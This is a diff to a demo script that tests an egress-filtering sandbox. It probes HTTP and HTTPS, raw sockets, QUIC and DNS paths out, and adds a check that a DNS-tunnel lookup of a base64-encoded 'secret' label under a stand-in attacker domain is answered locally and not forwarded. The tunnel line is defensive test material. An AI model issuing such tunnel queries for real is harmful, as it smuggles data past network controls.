@@ -79,14 +79,20 @@ http_get("Host: other.demo.test (resolves to a denied IP)", "198.18.200.3", "oth
 print("HTTPS (proxied too; judged by SNI):")
 origin_ca = os.environ.get("DEMO_ORIGIN_CA")
 https_get("https://docs.demo.test/ (passthrough)", "docs.demo.test", cafile=origin_ca)
-https_get("https://tracker.ads.demo.test/ (SNI denied)", "tracker.ads.demo.test", cafile=origin_ca)
+https_get("https://tracker.ads.demo.test/ (name denied: DNS)", "tracker.ads.demo.test", cafile=origin_ca)
 https_get("https://api.demo.test/ (intercepted)", "api.demo.test")
 https_get("  same TLS session, Host: docs.demo.test", "api.demo.test", "docs.demo.test")
 print("Other paths out:")
 attempt("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
 attempt("packet socket (seccomp)", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
 attempt("UDP 443 (QUIC)", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"q", ("198.18.200.3", 443)))
-print("  DNS: dig @198.18.200.99 api.demo.test (an address nobody serves; pinned to the resolver):")
+print("  DNS: dig @198.18.200.99 api.demo.test (an address nobody serves; egressd answers):")
 out = subprocess.run(["dig", "+short", "+time=2", "+tries=1", "@198.18.200.99", "api.demo.test"],
                      capture_output=True, text=True)
 print("           answer:", out.stdout.strip() or out.stderr.strip())
+print("  DNS: dig @198.18.200.99 c2VjcmV0.attacker.example (a tunnel; not an allowed name):")
+out = subprocess.run(["dig", "+time=2", "+tries=1", "@198.18.200.99", "c2VjcmV0.attacker.example"],
+                     capture_output=True, text=True)
+status = [l for l in out.stdout.splitlines() if "status:" in l]
+print("           answer:", (status[0].split("status: ")[1].split(",")[0] + " (from egressd; never "
+                            "forwarded)") if status else out.stdout.strip() or out.stderr.strip())
